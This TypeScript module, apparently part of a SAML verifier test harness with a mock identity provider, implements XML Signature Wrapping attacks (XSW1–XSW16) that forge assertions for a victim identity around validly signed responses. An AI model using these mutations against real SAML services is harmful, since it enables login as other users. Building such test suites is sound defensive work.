/**
 * @module XML Signature Wrapping mutations (docs/attacks.md §B): SAML Raider's XSW1–XSW8 step for step
 * (CompassSecurity/SAMLRaider `XSWHelpers.java`), and the XSW-09..16 variants. `first(X)` is the first
 * element with local name X in document order, any namespace — SAML Raider's
 * `getElementsByTagNameNS("*", X).item(0)`. Every step throws when its target is missing, so a change
 * to the baseline can never turn a wrapping attack into a silent no-op.
 */
import type { Document, Element } from '@xmldom/xmldom';
import { signedText, parseXml } from '../../mock-idp/internal.js';
import { copyOf } from './copy-node.js';
import type { DomMutation, MutationContext } from '../types.js';
import {
  DSIG_NS,
  SAML_NS,
  SAMLP_NS,
  child,
  insertAfter,
  one,
  remove,
  replaceText,
  rootOf,
  signatureOf,
} from './dom.js';

export const EVIL_RESPONSE_ID = '_evil_response_ID';
export const EVIL_ASSERTION_ID = '_evil_assertion_ID';
/** XSW-14: a second assertion with an ID of its own ("no ID games"). */
export const FORGED_ASSERTION_ID = '_forged_assertion_ID';
/** A forged ID as docs/attacks.md names it, made unique to this response (see MutationContext.nonce). */
export function forgedId(base: string, ctx: MutationContext): string {
  return `${base}_${ctx.nonce}`;
}
const XMLNS_NS = 'http://www.w3.org/2000/xmlns/';
const XML_NS = 'http://www.w3.org/XML/1998/namespace';
const SUCCESS = 'urn:oasis:names:tc:SAML:2.0:status:Success';

function wrap(name: string, apply: (doc: Document, ctx: MutationContext) => void): DomMutation {
  return { name, stage: 'after-sign', apply };
}

/** SWAP (docs/attacks.md §0) on one subtree; throws if the baseline identity does not occur in it. */
export function swapIn(element: Element, ctx: MutationContext): void {
  if (replaceText(element, ctx.identities.baseline, ctx.identities.victim) === 0)
    throw new Error(`SWAP: the baseline identity does not occur in <${element.localName}>`);
}

function clone(element: Element): Element {
  return copyOf(element);
}

/** `x.removeChild(first(Signature) of x)`: SAML Raider removes it as a direct child, so must we. */
function removeOwnSignature(element: Element): void {
  const signature = one(element, 'Signature');
  if (signature.parentNode !== element)
    throw new Error(`first(Signature) of <${element.localName}> is not its child`);
  element.removeChild(signature);
}

/** The Response's direct child `first(Assertion)`, which `insertBefore` on the root needs. */
function topAssertion(doc: Document): Element {
  const assertion = one(doc, 'Assertion');
  if (assertion.parentNode !== rootOf(doc))
    throw new Error('first(Assertion) is not a child of the Response');
  return assertion;
}

/**
 * A' = clone(A), SWAP, its own Signature removed, ID set (undefined keeps the signed ID). A must be
 * signed unless `unsigned` says it no longer is (XSW-10 moves the Signature out first).
 */
export function forgedAssertion(
  assertion: Element,
  ctx: MutationContext,
  id: string | undefined,
  unsigned = false,
): Element {
  const forged = clone(assertion);
  swapIn(forged, ctx);
  if (!unsigned) removeOwnSignature(forged);
  if (id !== undefined) forged.setAttribute('ID', id);
  return forged;
}

/** XSW1 (sign=R): the signed Response copy goes inside the evil Response's Signature. */
export function xsw1(): DomMutation {
  return wrap('XSW1: signed Response copy appended to the evil Response Signature', (doc, ctx) => {
    const response = one(doc, 'Response');
    const copy = clone(response);
    remove(one(copy, 'Signature'));
    swapIn(response, ctx);
    one(response, 'Signature').appendChild(copy);
    response.setAttribute('ID', forgedId(EVIL_RESPONSE_ID, ctx));
  });
}

/** XSW2 (sign=R): as XSW1, but the copy is the preceding sibling of the Signature (detached). */
export function xsw2(): DomMutation {
  return wrap('XSW2: signed Response copy before the evil Response Signature', (doc, ctx) => {
    const response = one(doc, 'Response');
    const copy = clone(response);
    remove(one(copy, 'Signature'));
    swapIn(response, ctx);
    const signature = one(response, 'Signature');
    signature.parentNode!.insertBefore(copy, signature);
    response.setAttribute('ID', forgedId(EVIL_RESPONSE_ID, ctx));
  });
}

/** XSW3: the evil assertion is inserted before the signed one. */
export function xsw3(): DomMutation {
  return wrap('XSW3: evil Assertion before the signed one', (doc, ctx) => {
    const assertion = topAssertion(doc);
    rootOf(doc).insertBefore(forgedAssertion(assertion, ctx, forgedId(EVIL_ASSERTION_ID, ctx)), assertion);
  });
}

/** XSW4: the evil assertion is appended to the Response and the signed one moved inside it. */
export function xsw4(): DomMutation {
  return wrap('XSW4: signed Assertion moved inside the evil one', (doc, ctx) => {
    const assertion = topAssertion(doc);
    const evil = forgedAssertion(assertion, ctx, forgedId(EVIL_ASSERTION_ID, ctx));
    rootOf(doc).appendChild(evil);
    evil.appendChild(assertion);
  });
}

/** XSW5/XSW6: SWAP the signed assertion in place; a clean unsigned copy goes to the Response or its Signature. */
function evilInPlace(doc: Document, ctx: MutationContext, into: 'response' | 'signature'): void {
  const evil = one(doc, 'Assertion');
  const signature = one(evil, 'Signature');
  const copy = clone(evil);
  swapIn(evil, ctx);
  removeOwnSignature(copy);
  (into === 'response' ? rootOf(doc) : signature).appendChild(copy);
  evil.setAttribute('ID', forgedId(EVIL_ASSERTION_ID, ctx));
}

export function xsw5(): DomMutation {
  return wrap('XSW5: evil Assertion in place, clean copy appended to the Response', (doc, ctx) =>
    evilInPlace(doc, ctx, 'response'),
  );
}

export function xsw6(): DomMutation {
  return wrap('XSW6: evil Assertion in place, clean copy inside its Signature', (doc, ctx) =>
    evilInPlace(doc, ctx, 'signature'),
  );
}

/** XSW7: a no-namespace <Extensions> before A holds a SWAPped copy that keeps the signed ID. */
export function xsw7(): DomMutation {
  return wrap('XSW7: evil Assertion (same ID) inside a no-namespace <Extensions>', (doc, ctx) => {
    const assertion = topAssertion(doc);
    const extensions = doc.createElement('Extensions');
    rootOf(doc).insertBefore(extensions, assertion);
    extensions.appendChild(forgedAssertion(assertion, ctx, undefined));
  });
}

/** XSW8: SWAP A in place; its Signature gets a no-namespace <Object> holding a clean copy (same ID). */
export function xsw8(): DomMutation {
  return wrap('XSW8: clean Assertion copy in a no-namespace <Object> of the evil one', (doc, ctx) => {
    const evil = one(doc, 'Assertion');
    const signature = one(evil, 'Signature');
    const copy = clone(evil);
    swapIn(evil, ctx);
    removeOwnSignature(copy);
    const object = doc.createElement('Object');
    // Our Signature declares the dsig namespace as default, so without xmlns="" a re-parse would read
    // <Object> as ds:Object; docs/attacks.md's XSW8 wants a no-namespace element.
    object.setAttributeNS(XMLNS_NS, 'xmlns', '');
    signature.appendChild(object);
    object.appendChild(copy);
  });
}

/** A <samlp:Extensions> where StatusResponseType allows it: after Issuer and Signature, before Status. */
export function insertExtensions(doc: Document): Element {
  const response = rootOf(doc);
  const status = child(response, 'Status');
  if (!status) throw new Error('the Response has no <Status> to put <samlp:Extensions> before');
  const extensions = doc.createElementNS(SAMLP_NS, 'samlp:Extensions');
  response.insertBefore(extensions, status);
  return extensions;
}

/** XSW-09: XSW7 with a schema-valid <samlp:Extensions>. */
export function xsw7Namespaced(): DomMutation {
  return wrap('XSW-09: evil Assertion (same ID) inside <samlp:Extensions>', (doc, ctx) => {
    const assertion = topAssertion(doc);
    insertExtensions(doc).appendChild(forgedAssertion(assertion, ctx, undefined));
  });
}

function moveSignatureToResponse(doc: Document): Element {
  const assertion = topAssertion(doc);
  const signature = signatureOf(assertion);
  if (!signature) throw new Error('the Assertion is not signed');
  const issuer = child(rootOf(doc), 'Issuer');
  if (!issuer) throw new Error('the Response has no <Issuer>');
  insertAfter(signature, issuer);
  return assertion;
}

/** Where XSW-10 parks the signed Assertion once its Signature has moved to the Response. */
export type Parking = 'extensions' | 'advice';

/**
 * XSW-10 (CVE-2025-47949): A's Signature at Response level, a forged A' in A's place, and A parked in
 * <samlp:Extensions> or in the forged assertion's own <saml:Advice> (Core §2.6.1: Advice may carry
 * Assertions, so an SP that looks for stray assertions only outside Advice misses this one).
 */
export function relocateSignature(parking: Parking = 'extensions'): DomMutation {
  const where = parking === 'extensions' ? 'Extensions' : "the forged Assertion's Advice";
  return wrap(
    `XSW-10: Assertion Signature moved to the Response, signed Assertion into ${where}`,
    (doc, ctx) => {
      const assertion = moveSignatureToResponse(doc);
      const forged = forgedAssertion(assertion, ctx, forgedId(EVIL_ASSERTION_ID, ctx), true);
      rootOf(doc).insertBefore(forged, assertion);
      (parking === 'extensions' ? insertExtensions(doc) : insertAdvice(forged)).appendChild(assertion);
    },
  );
}

/** A <saml:Advice> where AssertionType allows it: after Conditions (else Subject), before the statements. */
export function insertAdvice(assertion: Element): Element {
  const before = child(assertion, 'Conditions') ?? child(assertion, 'Subject');
  if (!before) throw new Error('the Assertion has no <Conditions> or <Subject> to put <saml:Advice> after');
  const name = assertion.prefix ? `${assertion.prefix}:Advice` : 'Advice';
  const advice = assertion.ownerDocument!.createElementNS(SAML_NS, name);
  insertAfter(advice, before);
  return advice;
}

/** XSW-11: the Assertion's Signature becomes a child of the Response; it still references the Assertion. */
export function signatureOutsideSignedElement(): DomMutation {
  return wrap('XSW-11: Assertion Signature moved to be a child of the Response', (doc) => {
    moveSignatureToResponse(doc);
  });
}

/** XSW-13: a forged assertion carries the signed ID under another spelling (no ID attribute). */
export function duplicateIdSpelling(spelling: 'Id' | 'xml:id'): DomMutation {
  return wrap(`XSW-13: forged Assertion with ${spelling}= the signed ID`, (doc, ctx) => {
    const assertion = topAssertion(doc);
    const id = assertion.getAttribute('ID');
    if (!id) throw new Error('the Assertion has no ID');
    const forged = forgedAssertion(assertion, ctx, undefined);
    forged.removeAttribute('ID');
    if (spelling === 'xml:id') forged.setAttributeNS(XML_NS, 'xml:id', id);
    else forged.setAttribute(spelling, id);
    rootOf(doc).insertBefore(forged, assertion);
  });
}

/** XSW-14: an unsigned forged assertion with its own ID follows the signed one. */
export function unsignedAssertionAfter(): DomMutation {
  return wrap('XSW-14: unsigned forged Assertion after the signed one', (doc, ctx) => {
    const assertion = topAssertion(doc);
    insertAfter(forgedAssertion(assertion, ctx, forgedId(FORGED_ASSERTION_ID, ctx)), assertion);
  });
}

/**
 * XSW-15: right after A's real Signature, a decoy <ds:Signature> with the same SignatureValue and a
 * SWAPped <Subject> in a <ds:Object>. A verifier that strips every Signature with that value before
 * digesting (as docs/attacks.md reports for xml-crypto ≥6.0.0) leaves the decoy outside the digest, and
 * first(NameID) is now the victim.
 */
export function decoySignature(): DomMutation {
  return wrap('XSW-15: decoy Signature with the real SignatureValue and a forged Subject', (doc, ctx) => {
    const assertion = topAssertion(doc);
    const signature = signatureOf(assertion);
    if (!signature) throw new Error('the Assertion is not signed');
    const decoy = doc.createElementNS(DSIG_NS, 'Signature');
    decoy.appendChild(clone(one(signature, 'SignatureValue')));
    const object = doc.createElementNS(DSIG_NS, 'Object');
    const subject = clone(one(assertion, 'Subject'));
    swapIn(subject, ctx);
    object.appendChild(subject);
    decoy.appendChild(object);
    insertAfter(decoy, signature);
  });
}

/**
 * XSW-16: a LogoutResponse the IdP really signed (key K) sits in <samlp:Extensions>, so "a valid IdP
 * signature" exists in the message, while the Assertion itself is unsigned (use with sign=none).
 */
export function signedLogoutResponseBeside(): DomMutation {
  return wrap('XSW-16: K-signed LogoutResponse in Extensions beside an unsigned Assertion', (doc, ctx) => {
    if (one(doc, 'Assertion').getElementsByTagNameNS(DSIG_NS, 'Signature').length > 0)
      throw new Error('XSW-16 wants an unsigned Assertion (sign: none)');
    const id = '_idp_signed_logout_response';
    // Built as a document of its own, the text signElement was given before: signed there on the DOM,
    // then parsed so that it comes over with the declarations its text carries, as it always did.
    const own = doc.implementation.createDocument(null, '');
    const logout = own.createElementNS(SAMLP_NS, 'samlp:LogoutResponse');
    for (const [name, value] of [
      ['ID', id],
      ['Version', '2.0'],
      ['IssueInstant', ctx.now.toISOString()],
      ['Destination', ctx.acsUrl],
    ] as const)
      logout.setAttribute(name, value);
    const issuer = own.createElementNS(SAML_NS, 'Issuer');
    issuer.appendChild(own.createTextNode(ctx.issuer));
    const status = own.createElementNS(SAMLP_NS, 'samlp:Status');
    const code = own.createElementNS(SAMLP_NS, 'samlp:StatusCode');
    code.setAttribute('Value', SUCCESS);
    status.appendChild(code);
    logout.appendChild(issuer);
    logout.appendChild(status);
    own.appendChild(logout);
    const signed = signedText(own, { key: ctx.keys.idp, algorithm: 'sha256', elementId: id });
    insertExtensions(doc).appendChild(doc.importNode(parseXml(signed).documentElement!, true));
  });
}
